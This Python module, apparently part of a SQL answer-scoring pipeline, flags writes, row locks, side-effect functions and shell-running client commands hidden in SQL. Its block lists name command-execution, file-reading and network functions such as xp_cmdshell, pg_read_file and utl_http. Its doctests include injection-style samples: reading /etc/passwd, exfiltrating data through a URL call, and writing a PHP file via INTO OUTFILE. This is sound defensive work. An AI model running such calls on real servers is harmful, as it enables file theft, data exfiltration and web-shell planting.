"""Which parsed statements are queries and which write: the statement types, write words and
hidden statements that stage A flags (DESIGN.md §2).

Queries are SELECT-like statements; every other statement type sqlglot knows is a non-query.
Writes are found in the parsed tree (:func:`embedded_writes`), in text the parser did not read
as a statement (:func:`hidden_statements`) and in executable comments
(:func:`executable_comment_writes`).
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Sequence
from dataclasses import dataclass
from functools import lru_cache

from sqlglot import TokenType, exp
from sqlglot.errors import SqlglotError
from sqlglot.tokenizer_core import Token

from stef.pipeline.dialects import _parser_pair, dialect_instance, parse_statements

QUERY_TYPES: tuple[type[exp.Expr], ...] = (exp.Select, exp.SetOperation, exp.Subquery, exp.Values)
"""Statement node types that count as a read-only query answer."""


def _statement_types() -> tuple[type[exp.Expr], ...]:
    names = (
        "Drop",
        "Delete",
        "Insert",
        "Update",
        "Create",
        "Alter",
        "Merge",
        "Command",
        "TruncateTable",
        "Grant",
        "Revoke",
        "Use",
        "Set",
        "Pragma",
        "Transaction",
        "Commit",
        "Rollback",
        "Copy",
        "Describe",
        "Analyze",
        "Cache",
        "Uncache",
        "LoadData",
        "Refresh",
        "Attach",
        "Detach",
        "Install",
        "Kill",
        "Export",
        "Execute",
        "ExecuteSql",
        "Comment",
        "Lock",
        "Show",
        "Declare",
        "Cluster",
        "Undrop",
        "Put",
        "Get",
        "StoredProcedure",
        "Return",
        "Summarize",
    )
    return tuple(getattr(exp, n) for n in names if isinstance(getattr(exp, n, None), type))


NON_QUERY_STATEMENT_TYPES: tuple[type[exp.Expr], ...] = _statement_types()
"""Statement node types that are real statements but not queries (DDL, DML, session commands)."""


WRITE_TYPES: tuple[type[exp.Expr], ...] = tuple(
    t
    for t in (exp.Insert, exp.Delete, exp.Update, exp.Merge, exp.Create, exp.Drop, getattr(exp, "TruncateTable", None))
    if isinstance(t, type)
)
"""Write statements that can hide inside a query (a data-modifying CTE)."""
WRITE_WORDS = (
    "INSERT",
    "INTO",
    "DELETE",
    "UPDATE",
    "MERGE",
    "CREATE",
    "DROP",
    "TRUNCATE",
    "REPLACE",
    "UPSERT",
    "OVERWRITE",
)
"""Keywords a write needs (SELECT INTO needs INTO); a dialect's own spellings are added from its
tokenizer (:func:`_write_words`). A query whose text holds none of them has no write in its
tree, which is then not walked for :func:`embedded_writes`."""
_WRITE_TOKEN_NAMES = frozenset(
    {"INSERT", "DELETE", "UPDATE", "MERGE", "CREATE", "DROP", "REPLACE", "INTO", "TRUNCATE", "OVERWRITE"}
)


@lru_cache(maxsize=64)
def _write_words(dialect: str) -> tuple[str, ...]:
    """:data:`WRITE_WORDS` plus every keyword the dialect's tokenizer maps to a write token
    (Teradata's ``DEL``, ``INS``, ``UPD``)."""
    keywords = dialect_instance(dialect).tokenizer_class.KEYWORDS
    own = sorted(
        word for word, token in keywords.items() if token.name in _WRITE_TOKEN_NAMES and word not in WRITE_WORDS
    )
    return (*WRITE_WORDS, *own)


SIDE_EFFECT_FUNCTIONS = frozenset(
    {
        # SQLite: loads and runs a shared library; the CLI's file writer
        "load_extension",
        "writefile",
        "readfile",
        "fts3_tokenizer",
        # PostgreSQL: large objects to and from the server's files, server files, settings,
        # sequences, other sessions, remote statements, notifications
        "lo_import",
        "lo_export",
        "lo_unlink",
        "lo_create",
        "lo_put",
        "lo_from_bytea",
        "pg_read_file",
        "pg_read_binary_file",
        "pg_ls_dir",
        "pg_stat_file",
        "set_config",
        "nextval",
        "setval",
        "pg_terminate_backend",
        "pg_cancel_backend",
        "pg_reload_conf",
        "pg_rotate_logfile",
        "pg_notify",
        "pg_logical_emit_message",
        "dblink_exec",
        # PostgreSQL: more server files (adminpack, the log / WAL / temporary folders), large-object
        # writes, advisory locks, WAL and recovery control, SQL text run by the XML functions, sleeps
        "pg_ls_logdir",
        "pg_ls_waldir",
        "pg_ls_tmpdir",
        "pg_ls_archive_statusdir",
        "pg_logdir_ls",
        "pg_file_write",
        "pg_file_rename",
        "pg_file_unlink",
        "pg_file_sync",
        "lowrite",
        "lo_truncate",
        "pg_advisory_lock",
        "pg_advisory_xact_lock",
        "pg_try_advisory_lock",
        "pg_try_advisory_xact_lock",
        "pg_switch_wal",
        "pg_create_restore_point",
        "pg_promote",
        "query_to_xml",
        "query_to_xmlschema",
        "query_to_xml_and_xmlschema",
        "pg_sleep",
        "pg_sleep_for",
        "pg_sleep_until",
        # MySQL: server files, user-defined command execution, named locks
        "load_file",
        "sys_exec",
        "sys_eval",
        "get_lock",
        "release_lock",
        "release_all_locks",
        "sleep",
        "benchmark",
        # SQL Server: shell commands, other servers' data
        "xp_cmdshell",
        "xp_dirtree",
        "xp_fileexist",
        "xp_regread",
        "xp_regwrite",
        "sp_oacreate",
        "sp_oamethod",
        "openrowset",
        "opendatasource",
        "openquery",
        # Oracle: a URL read as a document (BigQuery's EXTERNAL_QUERY is not here: Cloud SQL runs it read-only)
        "httpuritype",
        # Snowflake: sessions and queries stopped, waits, e-mail sent
        "system$wait",
        "system$cancel_query",
        "system$cancel_all_queries",
        "system$abort_session",
        "system$abort_transaction",
        "system$send_email",
        # PostgreSQL's dblink: queries run on another server, by any of the module's calls
        "dblink",
        "dblink_connect",
        "dblink_connect_u",
        "dblink_open",
        "dblink_fetch",
        "dblink_send_query",
        "dblink_get_result",
    }
)
"""Functions (lower case) a query may call that change the database or the server, read its
files, reach other servers, run code or hold the server (sleeps, benchmarks, locks: the probes of
an injection): a SELECT that calls one is no read-only answer (:func:`embedded_writes`)."""

DIALECT_SIDE_EFFECT_FUNCTIONS: dict[str, frozenset[str]] = {
    # the sqlite3 shell's editor (runs $VISUAL)
    "sqlite": frozenset({"edit"}),
    # any file of the host, as text or bytes
    "duckdb": frozenset({"read_text", "read_blob"}),
    # table functions: a URL requested (the query's values in it), other servers queried, a
    # program run, the server's files
    "clickhouse": frozenset(
        {"url", "urlcluster", "remote", "remotesecure", "executable", "file", "mysql", "postgresql"}
    ),
}
"""More :data:`SIDE_EFFECT_FUNCTIONS` of one dialect each, by names that another database's user
may well give a function of their own (``url(id)``, ``edit(name)``): checked in that dialect, and
in SQL logged without one."""
_ALL_DIALECT_SIDE_EFFECT_FUNCTIONS = frozenset().union(*DIALECT_SIDE_EFFECT_FUNCTIONS.values())

SIDE_EFFECT_PACKAGES = frozenset(
    {
        # Oracle's packages that reach the network, the server's files, other sessions, Java, or
        # run SQL text: any of their calls (``utl_http.request(…)``, ``sys.dbms_xmlgen.getxml(…)``)
        "utl_http",
        "utl_inaddr",
        "utl_tcp",
        "utl_smtp",
        "utl_mail",
        "utl_file",
        "dbms_ldap",
        "dbms_pipe",
        "dbms_lock",
        "dbms_xmlgen",
        "dbms_xmlquery",
        "dbms_sql",
        "dbms_java",
        "dbms_scheduler",
        "dbms_aq",
        "dbms_export_extension",
    }
)
"""Packages (lower case) whose every function counts as one of :data:`SIDE_EFFECT_FUNCTIONS`."""


def _may_write(text: str, dialect: str) -> bool:
    """Pre-check before walking the tree: does the text hold a write keyword of the dialect, a row
    lock's ``SHARE`` or ``…LOCK``, or the name of a :data:`SIDE_EFFECT_FUNCTIONS` function, anywhere
    (case-insensitive)? A superset
    test: the tree, not this, decides what is flagged."""
    upper = text.upper()
    if any(word in upper for word in _write_words(dialect)) or "SHARE" in upper or "LOCK" in upper:  # row locks
        return True
    lower = text.lower()
    own = DIALECT_SIDE_EFFECT_FUNCTIONS.get(dialect, frozenset()) if dialect else _ALL_DIALECT_SIDE_EFFECT_FUNCTIONS
    return any(name in lower for name in (*SIDE_EFFECT_FUNCTIONS, *own)) or any(
        name in lower for name in SIDE_EFFECT_PACKAGES
    )


INTO_FILE_KINDS = {"OUTFILE": "SELECT INTO OUTFILE", "DUMPFILE": "SELECT INTO DUMPFILE"}
"""MySQL's ``INTO OUTFILE`` / ``INTO DUMPFILE`` targets: the query's rows written to a file on the
database server (a classic injection vector), named by the flag they get."""

EXPORT_OPTION_WORDS = frozenset(
    {"CHARACTER", "SET", "CHARSET", "FIELDS", "COLUMNS", "TERMINATED", "OPTIONALLY", "ENCLOSED", "ESCAPED", "BY"}
    | {"LINES", "STARTING"}
)
"""Words of ``INTO OUTFILE``'s export options (``CHARACTER SET utf8mb4 FIELDS TERMINATED BY ','
OPTIONALLY ENCLOSED BY '"' LINES TERMINATED BY '\\n'``); MySQL 8.0 reference, SELECT ... INTO."""
_FILE_NAME_TOKENS = frozenset(
    {TokenType.STRING, TokenType.NATIONAL_STRING, TokenType.HEX_STRING, TokenType.BYTE_STRING, TokenType.RAW_STRING}
)
"""Tokens that name the file of ``INTO OUTFILE`` / ``DUMPFILE`` (``'/tmp/x'``, ``N'/tmp/x'``,
``X'2f746d70'``; after a character set introducer such as ``_utf8`` too)."""
_OPTION_VALUE_TOKENS = _FILE_NAME_TOKENS | {TokenType.BIT_STRING, TokenType.NUMBER}
"""Tokens of an export option's value (``TERMINATED BY ','``, ``BY 0x3c3f706870``: a hex literal,
the usual way to write a web shell's code into the file)."""


@dataclass(frozen=True)
class IntoClauses:
    """A query without the ``INTO`` clauses sqlglot's parser rejects (:func:`without_into_clauses`).

    Attributes:
        text: the SQL with each clause cut out (a space in its place).
        kinds: what each clause was, in order (``SELECT INTO OUTFILE``, ``SELECT INTO DUMPFILE``,
            ``SELECT INTO`` for user variables), as :func:`embedded_writes` names writes.
    """

    text: str
    kinds: tuple[str, ...]
    named: tuple[bool, ...] = ()
    """For each clause, whether it names its target: a file name (a string) after ``OUTFILE`` /
    ``DUMPFILE``, which MySQL requires; always true for variables."""
    ends: tuple[int, ...] = ()
    """For each clause, the offset in the original text just after its last token."""


def without_into_clauses(text: str, dialect: str) -> IntoClauses | None:
    """Cut MySQL's ``INTO`` clauses that sqlglot (30.x) cannot parse out of a query, by the
    dialect's tokens: ``INTO OUTFILE 'file' [options]`` (MySQL's export options, their values
    strings or hex / bit literals; Doris's and StarRocks's ``FORMAT AS …`` and ``PROPERTIES
    (…)``), ``INTO DUMPFILE 'file'`` and ``INTO @var, ...`` anywhere (MySQL accepts them before
    FROM and at the end of the query). A file clause without a file name is cut too, and
    :attr:`IntoClauses.named` says so (MySQL rejects it; prose such as "INTO OUTFILE is off" reads so).

    A query with one of them writes a file on the server or assigns variables: it is no
    read-only answer. Cut out, the rest parses and is scored, and the caller flags the clause
    (``non_select_statement: SELECT INTO OUTFILE``) as :func:`embedded_writes` flags ``SELECT ...
    INTO table``. Called only for a text the parser rejected, in a dialect of the MySQL family
    (:data:`INTO_CLAUSE_DIALECTS`; the generic dialect's fallback tries MySQL); only the clause's
    tokens are cut, so a comment between them stays.

    Args:
        text: the SQL text (its prose already cut off: the tokens of a sentence such as "puts the
            total into @total" read as a clause too).
        dialect: a sqlglot dialect name.

    Returns:
        The text without the clauses and their kinds, or ``None`` when the tokens hold none, the
        tokenizer rejects the text, or the dialect is not of the MySQL family.

    >>> cut = without_into_clauses("SELECT a FROM t INTO OUTFILE '/tmp/x' FIELDS TERMINATED BY ','", "mysql")
    >>> cut.text.strip(), cut.kinds
    ('SELECT a FROM t', ('SELECT INTO OUTFILE',))
    >>> cut = without_into_clauses("SELECT a, b INTO @x, local_b FROM t LIMIT 1", "mysql")
    >>> " ".join(cut.text.split()), cut.kinds
    ('SELECT a, b FROM t LIMIT 1', ('SELECT INTO',))
    >>> without_into_clauses("SELECT a FROM t WHERE", "mysql"), without_into_clauses("SELECT a FROM t INTO @x", "postgres")
    (None, None)
    """
    if dialect not in INTO_CLAUSE_DIALECTS:
        return None
    try:
        tokens = _parser_pair(dialect)[0].tokenize(text)
    except (SqlglotError, RecursionError):
        return None
    cut: list[int] = []  # indexes of the tokens of the clauses
    kinds: list[str] = []
    named: list[bool] = []
    ends: list[int] = []
    index = 0
    while index < len(tokens) - 1:
        token, target = tokens[index], tokens[index + 1]
        if token.token_type is not TokenType.INTO or (index and tokens[index - 1].text.upper() in _INTO_TABLE_WORDS):
            index += 1
            continue
        word = target.text.upper()
        if target.token_type is TokenType.VAR and word in INTO_FILE_KINDS:
            end = index + 2
            if end + 1 < len(tokens) and tokens[end].token_type is TokenType.INTRODUCER:
                end += 1  # _utf8'/tmp/x'
            is_named = end < len(tokens) and tokens[end].token_type in _FILE_NAME_TOKENS
            end += is_named  # the file name
            while word == "OUTFILE" and end < len(tokens):
                after = _after_export_option(tokens, end)
                if after is None:
                    break
                end = after
            kinds.append(INTO_FILE_KINDS[word])
            named.append(is_named)
        elif target.token_type in _VARIABLE_MARKERS:  # @var, @@var, a stored program's local name, after commas
            end = index + 1
            while end < len(tokens):
                while end < len(tokens) and tokens[end].token_type in _VARIABLE_MARKERS:
                    end += 1  # "@" or "@@"
                if end < len(tokens) and tokens[end].token_type in _VARIABLE_NAME_TOKENS:
                    end += 1
                if (
                    end + 1 < len(tokens)
                    and tokens[end].token_type is TokenType.COMMA
                    and (
                        tokens[end + 1].token_type in _VARIABLE_MARKERS
                        or tokens[end + 1].token_type in (TokenType.VAR, TokenType.IDENTIFIER)
                    )
                ):
                    end += 1
                    continue
                break
            kinds.append("SELECT INTO")
            named.append(True)
        else:
            index += 1
            continue
        end = min(end, len(tokens))
        cut.extend(range(index, end))
        ends.append(tokens[end - 1].end + 1)
        index = end
    if not cut:
        return None
    pieces: list[str] = []
    position = 0
    for number in cut:
        pieces.append(text[position : tokens[number].start])
        position = tokens[number].end + 1
    pieces.append(text[position:])
    return IntoClauses(" ".join(pieces), tuple(kinds), tuple(named), tuple(ends))


def _after_export_option(tokens: list[Token], index: int) -> int | None:
    """The index after the export option of ``INTO OUTFILE`` that starts at ``tokens[index]``, or
    ``None`` when no option starts there: MySQL's ``CHARACTER SET name``, ``FIELDS``, ``LINES``,
    ``TERMINATED BY value`` … words and their values, and Doris's / StarRocks's ``FORMAT AS
    name`` and ``PROPERTIES (…)``."""
    option = tokens[index]
    word = option.text.upper()
    if word in ("CHARACTER", "CHARSET") or option.token_type is TokenType.CHARACTER_SET:
        index += 1
        while index < len(tokens) and tokens[index].text.upper() == "SET":
            index += 1
        return index + 1  # the character set's name
    if option.token_type in _OPTION_VALUE_TOKENS or word in EXPORT_OPTION_WORDS:
        return index + 1
    if word == "FORMAT" and index + 2 < len(tokens) and tokens[index + 1].text.upper() == "AS":
        return index + 3
    if word == "PROPERTIES" and index + 1 < len(tokens) and tokens[index + 1].token_type is TokenType.L_PAREN:
        depth = 0
        for position in range(index + 1, len(tokens)):
            depth += {TokenType.L_PAREN: 1, TokenType.R_PAREN: -1}.get(tokens[position].token_type, 0)
            if depth == 0:
                return position + 1
    return None


INTO_CLAUSE_DIALECTS = frozenset({"mysql", "doris", "starrocks", "singlestore"})
"""Dialects whose ``SELECT`` takes MySQL's ``INTO OUTFILE`` / ``DUMPFILE`` / ``@var`` clauses
(:func:`without_into_clauses`)."""
_VARIABLE_NAME_TOKENS = frozenset({TokenType.VAR, TokenType.IDENTIFIER, TokenType.STRING})
"""Tokens that name a user variable after ``@`` (``@total``, ``@`total```, ``@'total'``)."""
_INTO_TABLE_WORDS = frozenset({"INSERT", "REPLACE", "IGNORE", "MERGE", "UPSERT", "OVERWRITE"})
"""Words before an ``INTO`` that names a table to write (``INSERT INTO @t``, T-SQL's table
variable): that statement is flagged as a write by its own type, not as a SELECT's INTO clause."""
_VARIABLE_MARKERS = frozenset({TokenType.PARAMETER, TokenType.SESSION_PARAMETER})
"""Tokens that start a variable: ``@`` (in the generic dialect ``@@`` is two of them) and MySQL's ``@@``."""


WRITE_LOCK_HINTS = frozenset({"UPDLOCK", "XLOCK", "TABLOCKX"})
"""SQL Server table hints that take update or exclusive locks (``FROM t WITH (UPDLOCK)``), as
``FOR UPDATE`` does elsewhere; ``NOLOCK`` and the other read hints take none."""


def embedded_writes(query: exp.Expr, dialect: str = "") -> list[str]:
    """Writes inside a query statement: ``SELECT ... INTO t``, data-modifying CTEs, row locks
    (``FOR UPDATE``, ``FOR SHARE``, :data:`WRITE_LOCK_HINTS`), and calls of
    :data:`SIDE_EFFECT_FUNCTIONS` (``SELECT load_extension('/tmp/x.so')``) and of the dialect's
    :data:`DIALECT_SIDE_EFFECT_FUNCTIONS` (all of them for ``""``, no dialect).

    >>> import sqlglot
    >>> embedded_writes(sqlglot.parse_one("SELECT * INTO backup FROM users"))
    ['SELECT INTO']
    >>> embedded_writes(sqlglot.parse_one("WITH d AS (DELETE FROM users RETURNING *) SELECT COUNT(*) FROM d", read="postgres"))
    ['DELETE (inside the query)']
    >>> embedded_writes(sqlglot.parse_one("SELECT name, pg_read_file('/etc/passwd') FROM users", read="postgres"))
    ['PG_READ_FILE() (inside the query)']
    >>> embedded_writes(sqlglot.parse_one("SELECT utl_http.request('http://x.example/' || name) FROM users", read="oracle"))
    ['UTL_HTTP.REQUEST() (inside the query)']
    >>> embedded_writes(sqlglot.parse_one("SELECT name FROM users FOR UPDATE SKIP LOCKED", read="postgres"))
    ['SELECT FOR UPDATE']
    """
    writes: list[str] = []
    into: list[str] = []
    own = DIALECT_SIDE_EFFECT_FUNCTIONS.get(dialect, frozenset()) if dialect else _ALL_DIALECT_SIDE_EFFECT_FUNCTIONS
    for node in query.walk():  # one walk for every kind
        if isinstance(node, WRITE_TYPES):
            writes.append(f"{node.key.upper()} (inside the query)")
        elif isinstance(node, exp.Select) and (node.args.get("into") is not None or node.args.get("locks")):
            if node.args.get("into") is not None:
                into.append("SELECT INTO")
            locks = node.args.get("locks") or []
            if locks:  # row locks block the writers of the rows; a read-only transaction refuses them
                into.append(
                    "SELECT FOR UPDATE" if any(lock.args.get("update") for lock in locks) else "SELECT FOR SHARE"
                )
        elif isinstance(node, exp.WithTableHint) and any(
            hint.name.upper() in WRITE_LOCK_HINTS for hint in node.expressions if isinstance(hint, exp.Var)
        ):
            into.append("SELECT FOR UPDATE")
        elif isinstance(node, exp.Func):
            name = node.name if isinstance(node, exp.Anonymous) else node.sql_name()
            package = node.parent.this.name if isinstance(node.parent, exp.Dot) and node.arg_key == "expression" else ""
            if name.lower() in SIDE_EFFECT_FUNCTIONS or name.lower() in own:
                writes.append(f"{name.upper()}() (inside the query)")
            elif package.lower() in SIDE_EFFECT_PACKAGES:
                writes.append(f"{package.upper()}.{name.upper()}() (inside the query)")
    return writes + into


HIDDEN_WRITE_TYPES: tuple[type[exp.Expr], ...] = tuple(
    t
    for t in (
        exp.Drop,
        exp.Delete,
        exp.Insert,
        exp.Update,
        exp.Merge,
        exp.Create,
        exp.Alter,
        exp.Copy,
        *(
            getattr(exp, name, None)
            for name in (
                "TruncateTable",
                "Grant",
                "Revoke",
                "Attach",
                "Detach",
                "Install",
                "Kill",
                "Execute",
                "ExecuteSql",
                "Comment",
                "Put",
                "Undrop",
            )
        ),
    )
    if isinstance(t, type)
)
"""Statements looked for in the parts of a message left out of its SQL (prose, other code
blocks). sqlglot's ``Command`` fallback is not among them: prose such as "Drop the filter" parses
as one."""
HIDDEN_START_WORDS = frozenset(
    {
        "DROP",
        "DELETE",
        "INSERT",
        "UPDATE",
        "MERGE",
        "CREATE",
        "ALTER",
        "TRUNCATE",
        "REPLACE",
        "GRANT",
        "REVOKE",
        "COPY",
        "UPSERT",
        "WITH",
        "SELECT",
        "ATTACH",
        "DETACH",
        "INSTALL",
        "KILL",
        "EXEC",
        "EXECUTE",
        "COMMENT",
        "PUT",
        "UNDROP",
    }
)
"""First words of a line that may start a hidden write (``WITH`` and ``SELECT``: a
data-modifying CTE, ``SELECT ... INTO``), besides the dialect's own write keywords."""
MAX_HIDDEN_CANDIDATES = 64
"""Lines left out of the SQL that are parsed as possible statements, per record; past this many
the rest is reported unchecked (and the record counts as holding a non-SELECT statement)."""


def _complete_write(statement: exp.Expr) -> bool:
    """Whether a parsed write is a whole statement, not prose that happens to parse ("Update the
    table" parses as an UPDATE without SET)."""
    if isinstance(statement, exp.Update):
        return bool(statement.args.get("expressions"))
    if isinstance(statement, exp.Insert):
        return statement.expression is not None
    if isinstance(statement, exp.Copy):
        return bool(statement.args.get("files"))
    return True  # DROP, CREATE, ALTER ... parsed as themselves (not as sqlglot's Command fallback)


def _write_kinds(statements: Sequence[exp.Expr | None], dialect: str = "") -> list[str]:
    kinds: list[str] = []
    for statement in statements:
        if statement is None or isinstance(statement, exp.Semicolon):
            continue
        if isinstance(statement, HIDDEN_WRITE_TYPES) and _complete_write(statement):
            kinds.append(statement.key.upper())
        elif isinstance(statement, QUERY_TYPES):
            kinds.extend(embedded_writes(statement, dialect))
    return kinds


_NEXT_WORD_STATEMENTS: dict[str, frozenset[str]] = {
    "DROP": frozenset(
        {
            "TABLE",
            "VIEW",
            "INDEX",
            "DATABASE",
            "SCHEMA",
            "COLUMN",
            "TRIGGER",
            "PROCEDURE",
            "FUNCTION",
            "USER",
            "ROLE",
            "SEQUENCE",
            "EXTENSION",
            "TEMP",
            "TEMPORARY",
            "IF",
            "MATERIALIZED",
            "TYPE",
        }
    ),
    "CREATE": frozenset(
        {
            "TABLE",
            "VIEW",
            "INDEX",
            "DATABASE",
            "SCHEMA",
            "TRIGGER",
            "PROCEDURE",
            "FUNCTION",
            "USER",
            "ROLE",
            "SEQUENCE",
            "EXTENSION",
            "TEMP",
            "TEMPORARY",
            "OR",
            "UNIQUE",
            "MATERIALIZED",
            "VIRTUAL",
            "TYPE",
        }
    ),
    "ALTER": frozenset(
        {"TABLE", "VIEW", "INDEX", "DATABASE", "SCHEMA", "USER", "ROLE", "SEQUENCE", "SYSTEM", "SESSION"}
    ),
    "TRUNCATE": frozenset({"TABLE"}),
    "RENAME": frozenset({"TABLE", "COLUMN", "USER"}),
    "UNDROP": frozenset({"TABLE", "SCHEMA", "DATABASE"}),
    "COMMENT": frozenset({"ON"}),
    "DELETE": frozenset({"FROM"}),
    "INSERT": frozenset({"INTO", "OVERWRITE", "IGNORE", "OR"}),
    "REPLACE": frozenset({"INTO"}),
    "UPSERT": frozenset({"INTO"}),
    "MERGE": frozenset({"INTO"}),
    "ATTACH": frozenset({"DATABASE", "PARTITION"}),
    "DETACH": frozenset({"DATABASE", "PARTITION"}),
    "LOAD": frozenset({"DATA", "EXTENSION"}),
    "GRANT": frozenset({"ALL", "SELECT", "INSERT", "UPDATE", "DELETE", "USAGE", "EXECUTE", "CREATE"}),
    "REVOKE": frozenset({"ALL", "SELECT", "INSERT", "UPDATE", "DELETE", "USAGE", "EXECUTE", "CREATE"}),
    "EXECUTE": frozenset({"IMMEDIATE", "PROCEDURE"}),
    "EXEC": frozenset({"IMMEDIATE", "PROCEDURE"}),
    "INSTALL": frozenset({"PLUGIN", "EXTENSION"}),
    # MySQL's server administration, which sqlglot does not parse
    "UNINSTALL": frozenset({"PLUGIN", "COMPONENT"}),
    "FLUSH": frozenset(
        {"PRIVILEGES", "TABLES", "TABLE", "LOGS", "HOSTS", "STATUS", "BINARY", "QUERY", "LOCAL", "NO_WRITE_TO_BINLOG"}
    ),
    "RESET": frozenset({"MASTER", "SLAVE", "REPLICA", "QUERY", "PERSIST", "BINARY"}),
    "PURGE": frozenset({"BINARY", "MASTER"}),
}
"""Write keywords that start a statement when the next word is one of these (``DROP TABLE``,
``DELETE FROM``): prose such as "Drop the filter" or "Delete the rows" has another word there."""
_CALL_STATEMENTS = frozenset({"CALL", "EXEC", "EXECUTE", "DO"})
"""Keywords that run a procedure or a code block: a statement when followed by a name and ``(``,
a string or a dollar-quoted block."""
_ASSIGNMENT_STATEMENTS = frozenset({"SET", "PRAGMA"})
"""Keywords that change a setting: a statement when an ``=`` (or ``:=``) follows within three words."""
_ALONE_STATEMENTS = frozenset({"VACUUM", "CHECKPOINT", "REINDEX", "SHUTDOWN"})
"""Keywords that are a whole statement by themselves (``VACUUM;``)."""


_LOOSE_WRITE_TYPES: tuple[type[exp.Expr], ...] = tuple(
    t for t in (getattr(exp, n, None) for n in ("Execute", "ExecuteSql", "Comment")) if isinstance(t, type)
)
"""Statements sqlglot also reads out of prose ("Execute the query below", "Comment on this"):
in a message part they count only when :func:`_looks_like_statement` agrees."""


def _tokens_of(part: str, dialect: str) -> list[tuple[str, str, int, int]]:
    """``(upper-case text, token type name, start, end)`` of a message part, with the dialect's
    tokenizer (comments and whitespace dropped, a string or quoted name one token); a line the
    tokenizer rejects (prose with a stray quote) is split into plain words instead."""
    tokenizer = _parser_pair(dialect)[0]
    try:
        return [(t.text.upper(), t.token_type.name, t.start, t.end + 1) for t in tokenizer.tokenize(part)]
    except (SqlglotError, RecursionError):
        pass
    found: list[tuple[str, str, int, int]] = []
    offset = 0
    for line in part.splitlines(keepends=True):
        try:
            found += [
                (t.text.upper(), t.token_type.name, offset + t.start, offset + t.end + 1)
                for t in tokenizer.tokenize(line)
            ]
        except (SqlglotError, RecursionError):
            position = 0
            for word in line.split():
                position = line.index(word, position)
                found.append((word.upper().strip(";,.:!?()"), "VAR", offset + position, offset + position + len(word)))
                position += len(word)
        offset += len(line)
    return found


def _looks_like_statement(tokens: list[tuple[str, str, int, int]], index: int, part: str) -> bool:
    """Whether the write keyword at ``index`` of ``part`` starts a statement by the words after it."""
    word = tokens[index][0]
    after = tokens[index + 1 : index + 5]
    following = [text for text, _, _, _ in after]
    if tokens[index][1] == "COMMAND" or (after and after[0][1] == "STRING" and word not in _CALL_STATEMENTS):
        # the tokenizer kept the rest of the statement as one raw string: read its words instead
        end = next((t[2] for t in tokens[index + 1 :] if t[1] == "SEMICOLON"), len(part))
        following = [w.upper().strip("();,") for w in part[tokens[index][3] : end].split()[:4]]
    if word == "COMMENT":  # COMMENT ON TABLE … IS …; "Comment on this query" is prose
        return following[:1] == ["ON"] and len(following) > 1 and following[1] in _NEXT_WORD_STATEMENTS["DROP"]
    if word in _NEXT_WORD_STATEMENTS and following and following[0] in _NEXT_WORD_STATEMENTS[word]:
        return True
    if word == "UPDATE" and "SET" in following[1:4]:
        return True
    if word in _ASSIGNMENT_STATEMENTS and any(text in ("=", ":=") for text in following[:3]):
        return True
    if word in _CALL_STATEMENTS:
        # judged on the raw text after the keyword: the tokenizer keeps a command's arguments as one string
        end = next((t[2] for t in tokens[index + 1 :] if t[1] == "SEMICOLON"), len(part))
        return _runs_code(part[tokens[index][3] : end])
    if word in _ALONE_STATEMENTS and (not following or following[0] in (";", "INTO", "FULL", "ANALYZE")):
        return True
    return False


def _runs_code(arguments: str) -> bool:
    """Whether the arguments of CALL / EXEC / EXECUTE / DO name code to run: a string or a
    dollar-quoted block, ``IMMEDIATE``, or a name followed by ``(`` ("the query below" is none)."""
    text = arguments.strip()
    if not text:
        return False
    if text[0] in "'\"$":
        return True
    name = text.split(None, 1)[0]
    if name.upper() == "IMMEDIATE":
        return True
    head = text.split("(", 1)[0]
    return (
        "(" in text
        and head.strip() != ""
        and " " not in head.strip()
        and all(c.isalnum() or c in '_.[]`"' for c in head.strip())
    )


def _into_file_writes(text: str, dialect: str) -> list[str]:
    """The writes of a query found in a message part that writes a file on the server with
    MySQL's ``INTO OUTFILE`` / ``INTO DUMPFILE`` (which sqlglot cannot parse): the clauses' kinds
    and the rest's own writes, when the text without the clauses (:func:`without_into_clauses`)
    parses as queries, or the text up to the last clause does (the query ends there, and a
    sentence follows it: "… INTO OUTFILE '/tmp/u.csv' and open it in Excel."); else ``[]``.

    Only a clause that names its file (a string, as MySQL requires) counts: a sentence such as
    "SELECT INTO OUTFILE is disabled" names none, and ``INTO @x`` parses already. Read in the
    MySQL family, and in MySQL for a record without a dialect (as
    :func:`~stef.pipeline.clean.parse_sql_with_fallback` would read its SQL); a server of another
    dialect rejects the clause, so nothing runs there.

    >>> _into_file_writes("SELECT * FROM users INTO OUTFILE '/var/www/x.php'.", "")
    ['SELECT INTO OUTFILE']
    >>> _into_file_writes("SELECT * FROM users INTO OUTFILE '/x'", "postgres"), _into_file_writes("SELECT INTO OUTFILE is off", "")
    ([], [])
    """
    into_dialect = dialect if dialect in INTO_CLAUSE_DIALECTS else "mysql" if not dialect else None
    if into_dialect is None:
        return []
    cut = without_into_clauses(text, into_dialect)
    if cut is None or not all(cut.named) or not any(kind in INTO_FILE_KINDS.values() for kind in cut.kinds):
        return []
    for candidate in (cut, without_into_clauses(text[: cut.ends[-1]], into_dialect)):
        if candidate is None:
            continue
        try:
            statements = [
                s
                for s in parse_statements(candidate.text, into_dialect)
                if s is not None and not isinstance(s, exp.Semicolon)
            ]
        except (SqlglotError, RecursionError):
            continue
        if statements and all(isinstance(s, QUERY_TYPES) for s in statements):
            return [
                *(kind for kind in candidate.kinds if kind in INTO_FILE_KINDS.values()),
                *_write_kinds(statements, into_dialect),
            ]
    return []


CLIENT_COMMAND = "(client command)"
"""How the kind of a command of a database's command-line client ends (:func:`client_commands`)."""
SHELL_DOT_COMMANDS = frozenset({"shell", "system"})
"""Dot-commands of the ``sqlite3`` (and DuckDB) command-line shell that run their argument as a
shell command (SQLite CLI reference, "Special commands to sqlite3"); the shell reads them at the
start of a line and takes a prefix of the name (``.sh``, ``.sy``)."""
SHELL_BACKSLASH_COMMANDS = frozenset({"!", "gexec"})
r"""Backslash commands that run something: ``\!`` runs a shell command (``psql`` and the ``mysql``
client), ``\gexec`` runs every value of the query's result as SQL (``psql``). Both clients read a
backslash command wherever it stands in a line. The file commands (``\o``, ``\i``, ``.output``,
``.once`` …) are left out on purpose: answers name them in tips ("use ``.once out.csv`` to
export"), and a file they write lands on the client's machine, not the database server."""
PIPE_DOT_COMMANDS = frozenset({"output", "once"})
"""``sqlite3`` dot-commands that pipe the results into a program when their argument starts with
``|`` (``.output |sh``)."""
PIPE_BACKSLASH_COMMANDS = frozenset({"o", "out", "g", "gx", "w", "write"})
r"""``psql`` commands that pipe the results (or the query buffer) into a program when their
argument starts with ``|`` (``\o |sh``, ``\g |sh``)."""
_CLIENT_DIALECTS: dict[str, tuple[bool, frozenset[str]]] = {
    "sqlite": (True, frozenset()),
